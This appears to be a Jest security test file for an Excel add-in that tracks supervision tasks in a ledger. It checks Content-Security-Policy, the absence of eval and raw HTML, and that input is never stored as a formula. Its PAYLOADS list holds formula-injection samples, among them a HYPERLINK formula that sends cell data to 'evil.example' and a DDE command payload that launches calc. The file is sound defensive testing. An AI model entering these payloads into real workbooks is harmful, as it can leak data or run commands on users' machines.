/**
 * Security properties of the add-in:
 * - no dynamic code (eval, new Function, string timers) anywhere in src;
 * - every page (task pane, ribbon function file, preview) carries a Content-Security-Policy that allows scripts only from this origin
 *   and Microsoft's office.js CDN, and the page webpack emits still carries it;
 * - the task pane renders no raw HTML (dangerouslySetInnerHTML, innerHTML);
 * - the task pane bundle names no network address but office.js's;
 * - text a user types that Excel would take as a formula (=HYPERLINK(…), +1, -1, @SUM(…)) reaches
 *   the workbook as TEXT through the real gateway, or is refused — never as a formula.
 */
import { mkdtempSync, readFileSync, readdirSync, rmSync, statSync, existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, relative, resolve } from 'node:path';
import { JSDOM } from 'jsdom';
import ts from 'typescript';
import { makeItem } from '../src/domain/testing/itemFactory';
import type { Action, Actor } from '../src/domain/workflow';
import type { ExcelDouble } from '../src/excel/double';
import { queueAppend } from '../src/excel/ledgerWrites';
import { textCell } from '../src/excel/cells';
import { LEDGER_COLUMNS } from '../src/workbook/schema';
import { createLedgerService } from '../src/excel/ledgerGateway';
import type { ActionContext } from '../src/excel/ledgerService';
import { ledgerFixture } from '../src/excel/testing/ledgerFixture';

const ROOT = join(__dirname, '..');
const SRC = join(ROOT, 'src');
const OFFICE_CDN = 'https://appsforoffice.microsoft.com';

function walk(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const p = join(dir, name);
    return statSync(p).isDirectory() ? walk(p) : [p];
  });
}
const isSource = (p: string) =>
  /\.(ts|tsx|js)$/.test(p) && !/\.test\.tsx?$/.test(p) && !p.includes(`${join('src', 'excel', 'testing')}`) && !p.endsWith('.d.ts');
const SOURCES = walk(SRC).filter(isSource);

/** Tokens of a file, comments skipped (so a doc comment mentioning eval( is not a finding). */
function tokens(file: string): { kind: ts.SyntaxKind; text: string }[] {
  const text = readFileSync(file, 'utf8');
  const scanner = ts.createScanner(ts.ScriptTarget.Latest, true, file.endsWith('x') ? ts.LanguageVariant.JSX : ts.LanguageVariant.Standard, text);
  const out: { kind: ts.SyntaxKind; text: string }[] = [];
  for (let k = scanner.scan(); k !== ts.SyntaxKind.EndOfFileToken; k = scanner.scan()) {
    out.push({ kind: k, text: scanner.getTokenText() });
  }
  return out;
}

/** String literals of a file, through the AST (template heads and JSX attribute strings included). */
function stringLiterals(file: string): string[] {
  const text = readFileSync(file, 'utf8');
  const sf = ts.createSourceFile(file, text, ts.ScriptTarget.Latest, true, file.endsWith('x') ? ts.ScriptKind.TSX : ts.ScriptKind.TS);
  const out: string[] = [];
  const visit = (n: ts.Node) => {
    if (ts.isStringLiteralLike(n) || ts.isTemplateHead(n) || ts.isTemplateMiddle(n) || ts.isTemplateTail(n) || ts.isJsxText(n)) out.push(n.text);
    ts.forEachChild(n, visit);
  };
  visit(sf);
  return out;
}

describe('no dynamic code', () => {
  test('no eval(, new Function(, or string-bodied setTimeout/setInterval in src', () => {
    expect(SOURCES.length).toBeGreaterThan(30);
    const findings: string[] = [];
    for (const f of SOURCES) {
      const tk = tokens(f).filter((x) => x.kind !== ts.SyntaxKind.WhitespaceTrivia && x.kind !== ts.SyntaxKind.NewLineTrivia);
      tk.forEach((x, i) => {
        const next = tk[i + 1]?.text;
        if (x.text === 'eval' && next === '(') findings.push(`${relative(ROOT, f)}: eval(`);
        if (x.text === 'new' && tk[i + 1]?.text === 'Function' && tk[i + 2]?.text === '(') findings.push(`${relative(ROOT, f)}: new Function(`);
        if (
          (x.text === 'setTimeout' || x.text === 'setInterval') &&
          next === '(' &&
          tk[i + 2] &&
          (tk[i + 2].kind === ts.SyntaxKind.StringLiteral || tk[i + 2].kind === ts.SyntaxKind.NoSubstitutionTemplateLiteral)
        ) {
          findings.push(`${relative(ROOT, f)}: ${x.text}(string)`);
        }
      });
    }
    expect(findings).toEqual([]);
  });

  test('webpack never uses an eval-based devtool (it would need unsafe-eval under the CSP)', () => {
    const src = readFileSync(join(ROOT, 'webpack.config.js'), 'utf8');
    const devtools = [...src.matchAll(/devtool:\s*([^,\n]+)/g)].map((m) => m[1]);
    expect(devtools.length).toBeGreaterThan(0);
    for (const d of devtools) expect(d).not.toMatch(/eval/);
  });
});

// ------------------------------------------------------------------------------------------
// Content Security Policy
// ------------------------------------------------------------------------------------------

function cspOf(html: string): Map<string, string[]> {
  const doc = new JSDOM(html).window.document;
  const metas = Array.from(doc.querySelectorAll('meta')).filter((m) => (m.getAttribute('http-equiv') ?? '').toLowerCase() === 'content-security-policy');
  expect(metas).toHaveLength(1);
  // must come before any script, or earlier scripts escape it
  const all = Array.from(doc.head.children);
  const firstScript = all.findIndex((e) => e.tagName === 'SCRIPT');
  expect(all.indexOf(metas[0])).toBeLessThan(firstScript < 0 ? Infinity : firstScript);
  const policy = new Map<string, string[]>();
  for (const part of (metas[0].getAttribute('content') ?? '').split(';')) {
    const [name, ...values] = part.trim().split(/\s+/);
    if (name) policy.set(name.toLowerCase(), values);
  }
  return policy;
}

function expectStrictPolicy(html: string): void {
  const p = cspOf(html);
  expect(p.get('default-src')).toEqual(["'self'"]);
  expect(p.get('script-src')).toEqual(["'self'", OFFICE_CDN]);
  expect(p.get('style-src')).toEqual(["'self'", "'unsafe-inline'"]); // Fluent UI injects styles at run time
  expect(p.get('object-src')).toEqual(["'none'"]);
  expect(p.get('base-uri')).toEqual(["'self'"]);
  // nothing anywhere allows eval, inline script, wildcards, plain http or other hosts
  for (const [directive, values] of p) {
    for (const v of values) {
      expect([directive, v]).not.toEqual([directive, "'unsafe-eval'"]);
      if (directive !== 'style-src') expect([directive, v]).not.toEqual([directive, "'unsafe-inline'"]);
      expect(v).not.toMatch(/\*|^http:|^https:$/);
      if (/^https:\/\//.test(v)) expect(v).toBe(OFFICE_CDN);
    }
  }
  // every external script of the page is allowed by script-src
  const doc = new JSDOM(html).window.document;
  for (const s of Array.from(doc.querySelectorAll('script[src]'))) {
    const src = s.getAttribute('src')!;
    if (/^https?:\/\//.test(src)) expect(new URL(src).origin).toBe(OFFICE_CDN);
  }
  expect(doc.querySelectorAll('script:not([src])')).toHaveLength(0); // no inline scripts: script-src has no 'unsafe-inline'
}

describe('Content-Security-Policy of the pages', () => {
  test.each(['taskpane/taskpane.html', 'commands/commands.html', 'preview/preview.html'])('src/%s declares a strict policy before any script', (page) => {
    expectStrictPolicy(readFileSync(join(SRC, page), 'utf8'));
  });

  test('the page webpack emits (HtmlWebpackPlugin, production) still carries it', async () => {
    // A real webpack build of the task pane page with the project's own page list and a stub entry
    // (bundling Fluent UI would take minutes on the shared machine; the page is what matters here).
    // eslint-disable-next-line @typescript-eslint/no-require-imports
    const webpack = require('webpack') as typeof import('webpack');
    // eslint-disable-next-line @typescript-eslint/no-require-imports
    const HtmlWebpackPlugin = require('html-webpack-plugin');
    // eslint-disable-next-line @typescript-eslint/no-require-imports
    const { PAGES } = require('../webpack.config.js') as { PAGES: { filename: string; template: string; chunk: string }[] };
    const page = PAGES.find((p) => p.filename === 'taskpane.html')!;
    const out = mkdtempSync(join(tmpdir(), 'csp-'));
    try {
      const stats = await new Promise<import('webpack').Stats>((done, fail) =>
        webpack(
          {
            mode: 'production',
            context: ROOT,
            entry: { [page.chunk]: join(ROOT, 'test/support/file-stub.js') },
            output: { path: out, filename: '[name].[contenthash:8].js' },
            plugins: [new HtmlWebpackPlugin({ filename: page.filename, template: page.template, chunks: [page.chunk] })],
          },
          (err, s) => (err || !s ? fail(err) : done(s)),
        ),
      );
      expect(stats.hasErrors()).toBe(false);
      const html = readFileSync(join(out, page.filename), 'utf8');
      expectStrictPolicy(html);
      // the emitted bundle tag is same-origin (allowed by 'self')
      const doc = new JSDOM(html).window.document;
      const bundles = Array.from(doc.querySelectorAll('script[src]'))
        .map((s) => s.getAttribute('src')!)
        .filter((s) => !s.startsWith('https://'));
      expect(bundles.length).toBeGreaterThan(0);
      for (const b of bundles) expect(b).not.toMatch(/^[a-z]+:/i);
    } finally {
      rmSync(out, { recursive: true, force: true });
    }
  }, 60_000);
});

// ------------------------------------------------------------------------------------------
// raw HTML and network addresses in the task pane
// ------------------------------------------------------------------------------------------

describe('task pane code', () => {
  test('no dangerouslySetInnerHTML, innerHTML/outerHTML assignment or insertAdjacentHTML in src/taskpane', () => {
    const files = walk(join(SRC, 'taskpane')).filter((p) => /\.(ts|tsx)$/.test(p) && !/\.test\.tsx?$/.test(p));
    expect(files.length).toBeGreaterThan(5);
    const findings = files.flatMap((f) =>
      tokens(f)
        .filter((x) => ['dangerouslySetInnerHTML', 'innerHTML', 'outerHTML', 'insertAdjacentHTML', 'srcdoc'].includes(x.text))
        .map((x) => `${relative(ROOT, f)}: ${x.text}`),
    );
    expect(findings).toEqual([]);
  });

  /** Files the task pane entry reaches through relative imports (the bundle's own code). */
  function bundleFiles(entry: string): string[] {
    const seen = new Set<string>();
    const queue = [entry];
    while (queue.length > 0) {
      const f = queue.pop()!;
      if (seen.has(f)) continue;
      seen.add(f);
      const sf = ts.createSourceFile(f, readFileSync(f, 'utf8'), ts.ScriptTarget.Latest, true, f.endsWith('x') ? ts.ScriptKind.TSX : ts.ScriptKind.TS);
      const specs: string[] = [];
      sf.forEachChild((n) => {
        if ((ts.isImportDeclaration(n) || ts.isExportDeclaration(n)) && n.moduleSpecifier && ts.isStringLiteral(n.moduleSpecifier)) {
          // type-only imports leave nothing in the bundle
          if (ts.isImportDeclaration(n) && n.importClause?.isTypeOnly) return;
          if (ts.isExportDeclaration(n) && n.isTypeOnly) return;
          specs.push(n.moduleSpecifier.text);
        }
      });
      for (const spec of specs.filter((s) => s.startsWith('.'))) {
        const base = resolve(dirname(f), spec);
        const hit = [base, `${base}.ts`, `${base}.tsx`, `${base}.js`, join(base, 'index.ts'), join(base, 'index.tsx')].find(
          (p) => existsSync(p) && statSync(p).isFile(),
        );
        if (hit && /\.(ts|tsx)$/.test(hit)) queue.push(hit);
      }
    }
    return [...seen];
  }

  test('the task pane bundle names no network address but its own origin and office.js', () => {
    const files = bundleFiles(join(SRC, 'taskpane/index.tsx'));
    expect(files.some((f) => f.endsWith(join('excel', 'ledgerGateway.ts')))).toBe(true);
    // XML namespaces are names, not addresses: nothing is fetched from them
    const NAMESPACES = [/^http:\/\/www\.w3\.org\//, /^http:\/\/schemas\.(openxmlformats|microsoft)\.(org|com)\//, /^http:\/\/purl\.org\//];
    const found = files.flatMap((f) =>
      stringLiterals(f).flatMap((s) => [...s.matchAll(/(?:https?|wss?|ftp):\/\/[^\s'"`<>)）]+/gi)].map((m) => ({ file: relative(ROOT, f), url: m[0] }))),
    );
    const offending = found.filter(({ url }) => !url.startsWith(`${OFFICE_CDN}/`) && url !== OFFICE_CDN && !NAMESPACES.some((re) => re.test(url)));
    expect(offending).toEqual([]);
    // and the page itself: only office.js from the CDN
    const html = readFileSync(join(SRC, 'taskpane/taskpane.html'), 'utf8').replace(/<!--[\s\S]*?-->/g, '');
    const urls = [...html.matchAll(/(?:https?|wss?):\/\/[^\s'"`<>;]+/g)].map((m) => m[0]);
    expect(urls.every((u) => u.startsWith(OFFICE_CDN))).toBe(true);
  });
});

// ------------------------------------------------------------------------------------------
// formula injection through the real gateway
// ------------------------------------------------------------------------------------------

const PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"点击查看")', '+1', '-1', '@SUM(A1:A9)', '=1+1', "=cmd|' /C calc'!A0"];
const clerk: Actor = { role: '督办员', name: '陈志刚' };
const section: Actor = { role: '科室', name: '周海涛', section: '工程管理科' };
const leader: Actor = { role: '分管领导', name: '王振宇' };
let seq = 0;
const ctx = (actor: Actor): ActionContext => ({ actor, on: '2026-03-20', now: new Date('2026-03-20T10:00:00'), opId: `op-sec-${++seq}` });

/** Every cell of the written tables holding `payload`: [table, value, formula]. */
function cellsWith(xl: ExcelDouble, payload: string): { table: string; value: unknown; formula: unknown }[] {
  const out: { table: string; value: unknown; formula: unknown }[] = [];
  for (const name of ['台账', '反馈记录', '操作日志']) {
    const t = xl.workbook.table(name);
    t.formulas.forEach((row, i) =>
      row.forEach((f, j) => {
        const v = t.values[i][j];
        const strip = (x: unknown) => String(x).replace(/^=/, '');
        // the cell typed as the payload: its text, or the formula Excel would have made of it
        if (v === payload || f === payload || strip(f) === strip(payload) || (typeof v === 'string' && v.includes(payload) && v === f)) {
          out.push({ table: name, value: v, formula: f });
        }
      }),
    );
  }
  return out;
}

describe('formula injection: typed text never becomes a formula', () => {
  test.each(PAYLOADS)('register with %s in 承办科室 / 协办科室 / 事项内容: refused, or stored as text', async (payload) => {
    const xl = ledgerFixture({ protect: true });
    const svc = createLedgerService(xl.run);
    for (const input of [
      { content: payload, section: '工程管理科' },
      { content: '正常事项', section: '工程管理科', requirement: payload },
      { content: '正常事项', section: '工程管理科', note: payload },
      { content: '正常事项', section: '工程管理科', coSections: payload },
      { content: '正常事项', section: payload },
    ]) {
      const r = await svc.register({ source: '其他', level: '台账其他任务', kind: '一般', ...input }, ctx(clerk));
      const cells = cellsWith(xl, payload);
      if (!r.ok) continue; // refused by the domain (事项内容, 目标任务, 备注 are checked): nothing to inject
      // landed: the exact text, as a constant (a formula cell's value would be its result, not its text)
      const exact = cells.filter((c) => c.table === '台账' && c.value === payload);
      expect(exact.length).toBeGreaterThan(0);
      for (const c of exact) expect(c.formula).toBe(payload);
    }
    // nowhere in the ledger is the payload a formula
    for (const c of cellsWith(xl, payload)) expect(c.value).toBe(c.formula);
  });

  test.each(PAYLOADS)('workflow texts (反馈, 退回理由, 催办, 延期节点, 申请办结 and its 佐证材料) with %s: refused, or stored as text', async (payload) => {
    const xl = ledgerFixture({
      items: [makeItem(), makeItem({ id: 'DB-2026-0002', state: '申请办结', appliedOn: '2026-03-09' }), makeItem({ id: 'DB-2026-0003' })],
      protect: true,
    });
    const svc = createLedgerService(xl.run);
    const steps: [string, Action, Actor][] = [
      ['DB-2026-0001', { type: '反馈', node: '1天反馈', content: payload }, section],
      ['DB-2026-0001', { type: '催办', content: payload }, clerk],
      ['DB-2026-0001', { type: '延期方案', deadline: '2026-04-30', nodes: payload }, leader],
      ['DB-2026-0002', { type: '退回', reason: payload }, clerk],
      ['DB-2026-0001', { type: '申请办结', content: payload, evidence: '验收单.pdf' }, section],
      ['DB-2026-0003', { type: '申请办结', evidence: payload }, section],
    ];
    for (const [id, action, actor] of steps) await svc.act(id, action, ctx(actor));
    for (const c of cellsWith(xl, payload)) expect(c.value).toBe(c.formula);
    // the ledger still reads back: no cell turned into an error or a formula result
    const snap = await svc.snapshot();
    expect(snap.rowErrors.filter((e) => e.code === 'cell-error')).toEqual([]);
  });

  test('register: a 承办科室 / 协办科室 that validation refuses (formula-like, not in 科室人员) is refused before writing, with the row validation message', async () => {
    const xl = ledgerFixture();
    const svc = createLedgerService(xl.run);
    const r = await svc.register(
      { source: '其他', level: '台账其他任务', kind: '一般', content: '正常事项', section: '工程管理科', coSections: '+1' },
      ctx(clerk),
    );
    // either refused up front (like 事项内容 is), or the registered item is a valid ledger row
    if (r.ok) {
      const snap = await svc.snapshot();
      expect(snap.rowErrors).toEqual([]);
      expect(snap.items.map((i) => i.id)).toContain(r.value.item.id);
    }
  });

  test('register refuses formula-like text in any field; the writer stores such text as text anyway (defence in depth)', async () => {
    const xl = ledgerFixture({ protect: true });
    const svc = createLedgerService(xl.run);
    const payload = '=HYPERLINK("http://evil","x")';
    const r = await svc.register(
      { source: '其他', level: '台账其他任务', kind: '一般', content: '正常事项', section: '工程管理科', coSections: payload },
      ctx(clerk),
    );
    expect(r.ok).toBe(false);
    // the writer itself: the same payload through the append path lands as text, not a formula
    xl.workbook.sheet('台账').unprotect();
    await xl.run(async (context) => {
      const headers = xl.workbook.table('台账').columns;
      queueAppend(context, '台账', headers, LEDGER_COLUMNS, [{ 编号: 'DB-2026-0999', 协办科室: textCell(payload) }]);
      await context.sync();
    });
    const t = xl.workbook.table('台账');
    const col = t.columns.indexOf('协办科室');
    const row = t.values.findIndex((v) => v[col] !== '');
    const cell = xl.workbook.sheet('台账').cellAt(`${String.fromCharCode(65 + col)}${row + 2}`);
    expect(cell.value).toBe(payload);
    expect(cell.formula === undefined || cell.formula === cell.value).toBe(true);
  });
});
